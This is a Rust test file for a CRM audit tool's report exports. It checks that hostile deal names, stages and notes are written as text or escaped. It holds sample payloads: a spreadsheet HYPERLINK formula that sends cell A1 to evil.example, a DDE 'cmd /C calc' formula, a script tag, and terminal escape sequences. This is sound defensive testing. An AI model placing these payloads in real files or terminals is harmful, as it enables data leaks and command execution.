//! What is written when exports carry hostile or personal text, end to
//! end over `tests/reports/fixtures/hostile` with the rule set
//! `hostile.toml`: deal names that start like formulas (CSV and XLSX keep
//! them as text), a deal named like a script (HTML and Markdown escape
//! it), terminal escape sequences in a deal's name and stage, a manager's
//! name, a task's CRM cell and a waiver's reason (the table shows them as
//! text), non-characters in a deal name (JUnit stays XML), and phone
//! numbers and an e-mail address wherever text enters the report: deal
//! names, a stage the rule set does not know (deal 710: its message and
//! details quote it), the Bitrix24 task export's CRM cell naming a deal
//! that is not there (task 2301: the file's note quotes it) and a
//! waiver's reason (`--mask-phones` hides them in every format). Every
//! phone number in the fixture has the code 927, so no `927` may show.

use crate::support::{audit, out_dir, AS_OF, HOSTILE, HOSTILE_RULES};
use calamine::{open_workbook, Data, Reader, Xlsx};

const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?leak=\"&A1;\"Счёт\")";
const PLUS: &str = "+7 927 123-45-67 перезвонить";
const MINUS: &str = "-2+3 скидка на радиаторы";
const AT: &str = "@SUM(1+1)*cmd|' /C calc'!A0";
const SCRIPT: &str = "<script>alert(1)</script>";
const EMAIL: &str = "Заявка от ivan.petrov@mail.ru | срочно";

fn run(format: &str, extra: &[&str]) -> Vec<u8> {
    let mut args = vec![
        HOSTILE,
        "--rules",
        HOSTILE_RULES,
        "--as-of",
        AS_OF,
        "--format",
        format,
    ];
    args.extend(extra);
    let run = audit(&args);
    assert_eq!(run.code, 1, "{args:?}: {}", run.stderr);
    run.stdout
}

fn text(format: &str, extra: &[&str]) -> String {
    String::from_utf8(run(format, extra)).unwrap()
}

/// Every text cell of every sheet of a workbook.
fn workbook_text(bytes: Vec<u8>) -> Vec<String> {
    let dir = out_dir();
    let path = dir.path().join("report.xlsx");
    std::fs::write(&path, bytes).unwrap();
    let mut book: Xlsx<_> = open_workbook(&path).unwrap();
    let mut cells = Vec::new();
    for name in book.sheet_names() {
        let formulas = book.worksheet_formula(&name).unwrap();
        assert!(
            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
            "{name} has a formula"
        );
        for (_, _, cell) in book.worksheet_range(&name).unwrap().used_cells() {
            if let Data::String(s) = cell {
                cells.push(s.clone());
            }
        }
    }
    cells
}

#[test]
fn csv_cells_that_start_like_formulas_are_text() {
    let bytes = run("csv", &[]);
    let mut reader = csv::Reader::from_reader(bytes.as_slice());
    let column = reader
        .headers()
        .unwrap()
        .iter()
        .position(|h| h == "deal_name")
        .unwrap();
    let names: Vec<String> = reader
        .records()
        .map(|r| r.unwrap()[column].to_string())
        .collect();
    for hostile in [FORMULA, PLUS, MINUS, AT] {
        assert!(
            names.contains(&format!("'{hostile}")),
            "{hostile:?} is guarded: {names:?}"
        );
    }
    for plain in [SCRIPT, EMAIL] {
        assert!(names.contains(&plain.to_string()), "{plain:?} is as it was");
    }
}

#[test]
fn xlsx_cells_that_start_like_formulas_are_text() {
    let cells = workbook_text(run("xlsx", &[]));
    for hostile in [FORMULA, PLUS, MINUS, AT, SCRIPT] {
        assert!(
            cells.iter().any(|c| c == hostile),
            "{hostile:?} is a text cell, as written"
        );
    }
}

#[test]
fn html_escapes_a_script_in_a_deal_name() {
    let page = text("html", &[]);
    assert!(!page.contains("<script"), "no script element");
    assert!(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
}

#[test]
fn markdown_escapes_deal_names_for_tables() {
    let md = text("markdown", &[]);
    assert!(md.contains(r"ivan.petrov@mail.ru \| срочно"), "{md}");
}

/// A viewer that does not honour a backslash before `<` (the original
/// Markdown, many chat clients) would render `\<script\>` as a backslash
/// and a script element: markup from the data is written as entities.
#[test]
fn markdown_writes_markup_from_the_data_as_entities() {
    let md = text("markdown", &[]);
    assert!(!md.contains('<') && !md.contains('>'), "{md}");
    assert!(md.contains("&lt;script&gt;alert(1)&lt;/script&gt;"), "{md}");
    // The formula deal's `&A1` is an ampersand, not the start of an entity.
    assert!(md.contains("&amp;A1;"), "{md}");
}

/// Deal 707's name carries a window-title sequence and a screen clear,
/// its stage a concealment, manager Сидоров Олег's name a blink, task
/// 2303's CRM cell (which matches no deal) and the second waiver's reason
/// a screen clear. Colour is off (standard output is not a terminal), so
/// no escape character may be written at all, and each shows as `\u{1b}`.
#[test]
fn the_table_shows_escape_sequences_as_text() {
    for extra in [&[][..], &["--summary"][..]] {
        let table = text("table", extra);
        assert!(
            !table.contains('\u{1b}'),
            "{extra:?}: an escape reaches the terminal"
        );
        assert!(
            !table.contains('\u{7}'),
            "{extra:?}: a bell reaches the terminal"
        );
        assert!(table.contains(r"Сидоров Олег\u{1b}[5m"), "{table}");
    }
    let table = text("table", &[]);
    for shown in [
        r"Окна ПВХ\u{1b}]0;взлом\u{7}\u{1b}[2J",
        r"Замер\u{1b}[8m",
        r"«Счёт\u{1b}[2J» matches no deal",
        r"номер у прораба \u{1b}[2J уточнить",
    ] {
        assert!(table.contains(shown), "{shown} is shown as text:\n{table}");
    }
}

/// Deal 708's name carries U+FFFE and U+FFFF, which are no XML characters:
/// a strict reader (a CI server's) refuses the whole file.
#[test]
fn junit_is_xml_whatever_the_names() {
    let xml = text("junit", &[]);
    let bad: Vec<char> = xml.chars().filter(|&c| !is_xml_char(c)).collect();
    assert!(bad.is_empty(), "not XML characters: {bad:?}");
    assert!(xml.contains("Котёл\u{FFFD}\u{FFFD} для дачи"), "{xml}");
}

/// XML 1.0's `Char`.
fn is_xml_char(c: char) -> bool {
    matches!(c, '\t' | '\n' | '\r' | '\u{20}'..='\u{D7FF}' | '\u{E000}'..='\u{FFFD}')
        || c >= '\u{10000}'
}

#[test]
fn without_masking_the_contacts_show() {
    let json = text("json", &[]);
    assert!(json.contains("+7 927 123-45-67") && json.contains("ivan.petrov@mail.ru"));
}

#[test]
fn mask_phones_hides_contacts_in_every_format() {
    for format in ["table", "json", "jsonl", "csv", "markdown", "html", "junit"] {
        let out = text(format, &["--mask-phones"]);
        assert!(!out.contains("927"), "{format}: the phone shows:\n{out}");
        assert!(!out.contains("ivan.petrov"), "{format}: the e-mail shows");
        // Markdown escapes the stars.
        let out = out.replace(r"\*", "*");
        assert!(
            out.contains("+* *** ***-45-67"),
            "{format}: last 4 digits kept"
        );
        assert!(out.contains("i***@mail.ru"), "{format}: the domain kept");
    }
    let cells = workbook_text(run("xlsx", &["--mask-phones"]));
    assert!(cells
        .iter()
        .all(|c| !c.contains("927") && !c.contains("ivan.petrov")));
    assert!(cells.iter().any(|c| c == "+* *** ***-45-67 перезвонить"));
}
